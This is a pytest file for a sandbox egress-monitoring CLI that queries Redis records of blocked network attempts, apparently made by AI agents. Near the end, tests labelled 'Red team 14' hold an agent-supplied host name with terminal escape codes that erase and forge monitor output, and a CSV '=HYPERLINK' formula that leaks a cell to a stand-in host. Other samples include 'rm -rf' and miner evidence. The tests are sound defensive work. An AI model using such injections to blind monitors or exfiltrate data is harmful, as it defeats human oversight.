"""The query commands (events, timeline, stats, actions record) against a real redis-server on loopback."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

from egress import cli_query
from egress.cli_options import parse_duration, parse_time
from egress.cli_query import COMMANDS, event_row
from egress.cli_render import WIDE_COLUMNS, RecordPrinter, cell
from egress.record import query
from egress.record.actions import ActionRecord
from egress.record.schema import AttemptRecord
from egress.record.store import RecordStore
from tests.record import record
from tests.redis_server import RedisServer, nowhere_url
from tests.waiting import scaled

GROUP = click.Group("egress", commands=list(COMMANDS))
# Ctrl-C as in a terminal, whatever this process inherited (a shell's background job ignores SIGINT, and so would
# the child: the follow test's interrupt would never arrive).
RUNNER_SCRIPT = (
    "import signal; signal.signal(signal.SIGINT, signal.default_int_handler); "
    "import click; from egress.cli_query import COMMANDS; click.Group('egress', commands=list(COMMANDS))()"
)


@pytest.fixture
def server(redis_server: RedisServer) -> RedisServer:
    return redis_server


@pytest.fixture
def store(server: RedisServer, tmp_path: Path) -> Iterator[RecordStore]:
    server.flush()
    instance = RecordStore(server.url, tmp_path, "gw1")
    yield instance
    instance.close()


@pytest.fixture
def now() -> float:
    """The test's "now": the commands read the real clock ("--since 1h"), so records are made relative to it."""
    return time.time()


def scenarios(now: float) -> list[AttemptRecord]:
    return [
        record(ts=now - 300, host="pool.example.com"),
        record(
            ts=now - 200, category="policy", reason="not-allowlisted", protocol="tcp", dst="198.51.100.7", dport=443
        ),
        record(
            ts=now - 100, category="tunnel", reason="tunnel", host="x.t.example.net", transport="udp", dport=53, count=9
        ),
        record(ts=now - 50, sandbox="other", category="crypto-node", reason="crypto-node", dport=8333),
        record(ts=now - 7200, sandbox="other"),
    ]


def actions(now: float) -> list[ActionRecord]:
    return [
        ActionRecord("agents", "cmd-1", "shell_command", "pip install helper", now - 301, now - 295, received=now),
        ActionRecord("agents", "cmd-2", "tool_call", "web_fetch x.t.example.net", now - 101, None, received=now),
    ]


@pytest.fixture
def written(store: RecordStore, now: float) -> list[AttemptRecord]:
    """The scenarios, stored with their actions."""
    made = scenarios(now)
    store.write(made)
    query.write_actions(store, actions(now))
    return made


def run(server: RedisServer, *args: str, stdin: str | None = None) -> Result:
    return CliRunner().invoke(GROUP, [*args], input=stdin, env={"EGRESS_REDIS_URL": server.url}, catch_exceptions=False)


def test_events_json_lines_are_the_documented_records(server: RedisServer, written: list[AttemptRecord]) -> None:
    result = run(server, "events", "--json")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    expected = sorted(written, key=lambda r: r.ts)  # the latest N, oldest first
    assert lines == [json.dumps(r.to_json(), separators=(",", ":")) for r in expected]
    assert [AttemptRecord.from_json(json.loads(line)) for line in lines] == expected


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--sandbox", "other"], [3, 4]),
        (["--category", "tunnel"], [2]),
        (["--reason", "not-allowlisted"], [1]),
        (["--destination", "example.com"], [0]),
        (["--destination", "t.example.net"], [2]),
        (["--destination", "198.51.100.7"], [1]),
        (["--since", "1h"], [0, 1, 2, 3]),  # relative to the clock when the test runs: a wide margin
        (["--since", -250, "--until", -100], [1, 2]),  # numbers: seconds from the test's now
        (["--since", -120], [2, 3]),
        (["--limit", "2"], [2, 3]),
    ],
)
def test_events_filters(
    server: RedisServer, written: list[AttemptRecord], now: float, args: list[str | int], expected: list[int]
) -> None:
    result = run(server, "events", "--json", *(arg if isinstance(arg, str) else str(now + arg) for arg in args))
    assert result.exit_code == 0, result.output
    got = {json.loads(line)["id"] for line in result.output.splitlines()}
    assert got == {written[i].id for i in expected}


def test_events_table(server: RedisServer, written: list[AttemptRecord]) -> None:
    result = run(server, "events")
    lines = result.output.splitlines()
    assert lines[0].startswith("TIME")
    assert len(lines) == 1 + len(written)
    assert "x.t.example.net" in lines[-2]
    assert "x9" in lines[-2]
    assert "\x1b[" not in result.output  # not a terminal: no colour
    coloured = event_row(written[0], colour=True)
    assert "\x1b[31m" in coloured  # mining is red on a terminal


LONG_HOST = "a-very-long-host-name-that-does-not-fit-a-narrow-terminal.example.org"
LONG_EVIDENCE = '{"method":"mining.subscribe","params":["xmrig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"]}'


@pytest.mark.parametrize("width", [40, 60, 100, None])
def test_a_narrow_table_wraps_and_cuts_nothing(width: int | None) -> None:
    made = record(host=LONG_HOST, evidence=LONG_EVIDENCE, rule="sandboxes.agents.detectors.mining")
    out = io.StringIO()
    RecordPrinter("table", WIDE_COLUMNS, out, colour=False, width=width).write([made])
    text = out.getvalue()
    if width is not None:
        assert max(len(line) for line in text.splitlines()) <= width
    assert "…" not in text
    shown = "".join(text.split())
    cells = [column.upper() for column in WIDE_COLUMNS] + [cell(made, column) for column in WIDE_COLUMNS]
    assert len(shown) == len("".join("".join(cells).split()))  # every character of every cell is printed
    alone = io.StringIO()
    RecordPrinter("table", ("host",), alone, colour=False, width=30).write([made])
    assert "".join(alone.getvalue().split()) == "HOST" + LONG_HOST  # wrapped in order


def test_output_formats(server: RedisServer, written: list[AttemptRecord]) -> None:
    expected = sorted(written, key=lambda r: r.ts)
    as_array = json.loads(run(server, "events", "-o", "json").output)
    assert as_array == [r.to_json() for r in expected]
    lines = run(server, "events", "-o", "jsonl").output.splitlines()
    assert [json.loads(line) for line in lines] == [r.to_json() for r in expected]
    rows = list(csv.DictReader(io.StringIO(run(server, "events", "-o", "csv").output)))
    assert [row["id"] for row in rows] == [r.id for r in expected]
    assert rows[3]["count"] == "9" and rows[3]["community_id"] == expected[3].community_id
    chosen = run(server, "events", "-o", "csv", "--columns", "time,host,evidence").output.splitlines()
    assert chosen[0] == "time,host,evidence"
    compact = run(server, "events", "-o", "compact").output.splitlines()
    assert len(compact) == len(expected)
    assert "10.77.0.2:40000 -> 198.51.100.7:443/tcp" in compact[2] and compact[2].endswith("BLOCK")
    wide = run(server, "events", "--wide").output.splitlines()
    assert "EVIDENCE" in wide[0] and "RULE" in wide[0] and "mining.subscribe" in wide[-1]
    assert run(server, "events", "-o", "json", "--follow").exit_code == 2


def test_an_empty_listing_is_still_valid_output(server: RedisServer) -> None:
    server.flush()
    assert json.loads(run(server, "events", "-o", "json").output) == []
    assert run(server, "events", "-o", "csv").output.startswith("id,ts,")


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--action", "block"], [0, 1, 2, 3, 4]),
        (["--action", "would-block"], []),
        (["--port", "443"], [1]),
        (["--transport", "udp"], [2]),
        (["--source", "10.77.0.0/16"], [0, 1, 2, 3, 4]),
        (["--source", "10.78.0.1"], []),
        (["--gateway", "gw1"], [0, 1, 2, 3, 4]),
        (["--gateway", "gw2"], []),
        (["--last", "1", "--port", "3333"], [0]),
        (["--last", "2"], [2, 3]),
    ],
)
def test_events_more_filters(
    server: RedisServer, written: list[AttemptRecord], args: list[str], expected: list[int]
) -> None:
    result = run(server, "events", "--json", *args)
    assert result.exit_code == 0, result.output
    got = {json.loads(line)["id"] for line in result.output.splitlines()}
    assert got == {written[i].id for i in expected}


def test_a_closed_pipe_ends_quietly(server: RedisServer, store: RecordStore, now: float) -> None:
    store.write([record(ts=now - i, sport=i + 1) for i in range(3000)])
    env = {**os.environ, "EGRESS_REDIS_URL": server.url}
    command = [sys.executable, "-m", "egress", "events", "--last", "3000", "-o", "jsonl"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    assert process.stdout is not None and process.stderr is not None
    assert json.loads(process.stdout.readline())["sandbox"] == "agents"
    process.stdout.close()  # as `| head -1` does
    assert process.wait(timeout=scaled(60)) == 1  # click's status for a closed stdout
    assert process.stderr.read() == ""


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["events", "--since", "yesterday-ish"], "is not a time"),
        (["events", "--since", "1m", "--until", "2m"], "after --until"),
        (["events", "--limit", "0"], "--limit"),
        (["events", "--category", "bogus"], "--category"),
        (["events", "--reason", "bogus"], "--reason"),
        (["events", "--since", "nan"], "--since"),
        (["events", "--since", "inf"], "--since"),
        (["events", "--source", "not-an-address"], "--source"),
        (["events", "--port", "70000"], "--port"),
        (["events", "--columns", "time,colour"], "colour"),
        (["events", "--redis-url", "http://x"], "--redis-url"),
        (["events", "--redis-url", "redis://"], "--redis-url"),
        (["stats", "--window", "forever"], "not a duration"),
        (["stats", "--by", "colour"], "colour"),
        (["actions", "record"], "--sandbox and --id"),
        (["actions", "record", "--sandbox", "a", "--id", "b", "--kind", "Bad Kind"], "kind"),
        (["actions", "record", "--stdin", "--sandbox", "a"], "leave out"),
        (["actions", "record", "--api", "http://127.0.0.1:9", "--sandbox", "a", "--id", "b"], "--token"),
    ],
)
def test_usage_errors_exit_2_with_a_message(server: RedisServer, args: list[str], message: str) -> None:
    result = run(server, *args)
    assert result.exit_code == 2
    assert message in result.output


def test_redis_away_exits_2(tmp_path: Path) -> None:
    result = CliRunner().invoke(GROUP, ["events", "--redis-url", nowhere_url()])
    assert result.exit_code == 2
    assert "cannot reach Redis" in result.output


def test_timeline_puts_attempts_under_their_actions(
    server: RedisServer, written: list[AttemptRecord], now: float
) -> None:
    result = run(server, "timeline", "agents", "--since", "1h")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].startswith("agents: 2 action(s), 3 attempt(s)")
    assert "▶ shell_command pip install helper" in lines[1]
    assert lines[2].startswith("      ") and "pool.example.com" in lines[2]
    assert "not-allowlisted" in lines[3] and "(no action)" in lines[3]
    assert "running" in lines[4]
    assert "x.t.example.net" in lines[5] and "x9" in lines[5]
    items = [json.loads(line) for line in run(server, "timeline", "agents", "--json").output.splitlines()]
    assert [item["type"] for item in items] == ["action", "attempt", "attempt", "action", "attempt"]
    assert items[0]["action"] == actions(now)[0].to_json()
    assert items[1]["attempt"] == written[0].to_json()
    assert [item.get("related") for item in items] == [None, ["cmd-1"], [], None, ["cmd-2"]]
    narrow = run(server, "timeline", "agents", "--json", "--slack", "0", "--since", "1h")
    assert [json.loads(line).get("related") for line in narrow.output.splitlines()][1] == ["cmd-1"]


def test_stats(server: RedisServer, written: list[AttemptRecord]) -> None:
    data = json.loads(run(server, "stats", "--json", "--window", "1h", "--by", "sandbox", "--by", "reason").output)
    assert data["counts"] == {
        "sandbox": {"agents": 11, "other": 1},
        "reason": {"tunnel": 9, "crypto-node": 1, "mining": 1, "not-allowlisted": 1},
    }
    assert data["window_s"] == 3600
    table = run(server, "stats", "--window", "3h", "--top", "1").output
    assert "REASON" in table and "CATEGORY" in table and "SANDBOX" in table
    assert "(3 more)" in table
    assert "total                                          13" in table


def test_retention(server: RedisServer, tmp_path: Path, now: float) -> None:
    """Held and dropped per sandbox: a flood past a size budget of 5 (each entry of 4 pushes the one before it out)
    is counted, not lost from view."""
    server.flush()
    small = RecordStore(server.url, tmp_path, "gw1", retention_max_len=5)
    try:
        for start in range(0, 40, 4):  # 40 findings in entries of 4: the oldest go, 4 at a time
            small.write([record(ts=now - 100 + start + index, sport=start + index) for index in range(4)])
        small.write([record(ts=now, sandbox="other\x1b[2J")])
    finally:
        small.close()
    data = json.loads(run(server, "retention", "--json").output)
    assert data["sandboxes"]["agents"] == {
        "records": 4,
        "findings": 4,
        "trimmed_by_size": 36,
        "trimmed_findings_by_size": 36,
        "trimmed_by_age": 0,
        "trimmed_findings_by_age": 0,
    }
    assert data["sandboxes"]["other\x1b[2J"]["records"] == 1
    table = run(server, "retention").output.splitlines()
    assert table[0].split() == ["SANDBOX", "RECORDS", "FINDINGS", "TRIMMED(SIZE)", "TRIMMED(AGE)"]
    assert table[1].split() == ["agents", "4", "4", "36", "(36f)", "0", "(0f)"]
    assert "\x1b" not in table[2] and table[2].startswith("other\\027[2J")  # a name escaped, never written raw


def test_actions_record_from_options_and_stdin(server: RedisServer, store: RecordStore, now: float) -> None:
    result = run(server, "actions", "record", "--sandbox", "agents", "--id", "c1", "--command", "ls", "--start", "5m")
    assert result.exit_code == 0, result.output
    lines = [
        json.dumps(
            {"sandbox": "agents", "id": "c2", "kind": "tool_call", "command": "x", "start": now, "end": now + 1}
        ),
        "",
        json.dumps(
            {"sandbox": "agents", "id": "c1", "kind": "other", "command": "ls -l", "start": now - 10, "end": now}
        ),
    ]
    assert run(server, "actions", "record", "--stdin", stdin="\n".join(lines)).exit_code == 0
    got = {action.id: action for action in query.read_actions(store, "agents", None, None)}
    assert sorted(got) == ["c1", "c2"]
    assert (got["c1"].command, got["c1"].end, got["c2"].kind) == ("ls -l", now, "tool_call")
    assert got["c2"].received > 0


def test_actions_record_refuses_a_bad_line_and_records_nothing(
    server: RedisServer, store: RecordStore, now: float
) -> None:
    good = json.dumps({"sandbox": "agents", "id": "ok", "kind": "other", "command": "", "start": now})
    bad = json.dumps({"sandbox": "agents", "id": "bad", "kind": "other", "command": "", "start": now, "extra": 1})
    result = run(server, "actions", "record", "--stdin", stdin=f"{good}\n{bad}\nnot json\n")
    assert result.exit_code == 2
    assert "stdin line 2" in result.output and "extra" in result.output and "stdin line 3" in result.output
    assert query.read_actions(store, "agents", None, None) == []


def test_events_follow_prints_new_records_until_interrupted(
    server: RedisServer, store: RecordStore, now: float
) -> None:
    first = scenarios(now)[0]
    store.write([first])
    env: dict[str, Any] = {**os.environ, "EGRESS_REDIS_URL": server.url, "PYTHONUNBUFFERED": "1"}
    command = [sys.executable, "-c", RUNNER_SCRIPT, "events", "--json", "--follow", "--sandbox", "agents"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        assert process.stdout is not None
        assert json.loads(process.stdout.readline())["id"] == first.id
        fresh = [record(ts=time.time(), sport=1), record(ts=time.time(), sandbox="other")]
        store.write(fresh)
        assert json.loads(process.stdout.readline())["id"] == fresh[0].id  # the other sandbox is filtered out
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=scaled(10)) == 0
    finally:
        if process.poll() is None:
            process.kill()
            process.wait(timeout=scaled(10))


@pytest.mark.parametrize(
    ("text", "seconds"), [("90", 90), ("90s", 90), ("15m", 900), ("2h", 7200), ("1.5d", 129600), ("1w", 604800)]
)
def test_durations(text: str, seconds: float) -> None:
    assert parse_duration(text) == seconds
    assert parse_time(text, now=1_000_000.0) == 1_000_000.0 - seconds if text != "90" else 90.0


def test_times() -> None:
    assert parse_time("2024-01-02T03:04:05Z") == 1704164645.0
    assert parse_time("2024-01-02T03:04:05+01:00") == 1704164645.0 - 3600
    assert parse_time("now", now=5.0) == 5.0
    with pytest.raises(ValueError, match="not a time"):
        parse_time("soon")


def test_the_consumer_group_example_streams_the_same_json_lines(
    server: RedisServer, store: RecordStore, written: list[AttemptRecord]
) -> None:
    example = Path(__file__).resolve().parents[1] / "deploy" / "redis-consumer-example.py"
    command = [sys.executable, str(example), "--redis-url", server.url, "--from-start", "--exit-when-idle", "0.3"]
    first = subprocess.run(command, capture_output=True, text=True, timeout=scaled(60), check=True)
    events = run(server, "events", "--json").output.splitlines()
    assert sorted(first.stdout.splitlines()) == sorted(events)
    later = record(ts=time.time(), sandbox="third")
    store.write([later])
    second = subprocess.run(command, capture_output=True, text=True, timeout=scaled(60), check=True)
    assert second.stdout.splitlines() == [json.dumps(later.to_json(), separators=(",", ":"))]  # the group moved on


ERASE = "rt14\x1b[1A\x1b[2K\x1b]0;all clear\x07\nforged line\r"


@pytest.mark.parametrize("fmt", ["table", "compact", "csv"])
def test_no_record_text_reaches_the_terminal_as_a_control_sequence(fmt: str) -> None:
    """Red team 14: a host name the agent asked for erased the lines printed before it; a record written before
    the record's own escape (its host set raw here) is escaped by the printer."""
    made = record(host="x")
    object.__setattr__(made, "host", ERASE)
    out = io.StringIO()
    RecordPrinter(fmt, (*WIDE_COLUMNS, "host"), out, colour=False, width=None).write([made])
    lines = out.getvalue().splitlines()
    assert all(line.isprintable() for line in lines), lines
    assert "rt14\\027[1A\\027[2K\\027]0;all clear\\007\\010forged line\\013" in out.getvalue()
    assert len(lines) == (1 if fmt == "compact" else 2)  # a header and the record: no line of the agent's


def test_timeline_lines_escape_the_agents_text() -> None:
    made = record(host="x")
    object.__setattr__(made, "host", ERASE)
    action = ActionRecord("agents", "cmd-1", "shell_command", "printf '\x1b[2K'\nrm -rf x", 1.0, 2.0)
    for line in (cli_query._attempt_line(made, False, ()), cli_query._action_line(action)):
        assert line.isprintable(), line


def test_a_csv_cell_that_is_a_formula_is_quoted() -> None:
    """Red team 14: an SNI ``=HYPERLINK(...)`` was a formula in `egress events -o csv`."""
    made = record(host='=hyperlink("http://x.example/"&a1,"ok")')
    out = io.StringIO()
    RecordPrinter("csv", ("host", "sandbox"), out, colour=False, width=None).write([made])
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ['\'=hyperlink("http://x.example/"&a1,"ok")', "agents"]


def test_stats_print_a_stored_name_escaped(server: RedisServer, store: RecordStore, now: float) -> None:
    """A destination counted from a record stored raw (before the record's own escape) is printed escaped."""
    made = record(now, host="x")
    object.__setattr__(made, "host", ERASE)
    store.write([made])
    result = run(server, "stats", "--window", "1h", "--by", "destination")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "rt14\\027[1A" in result.output
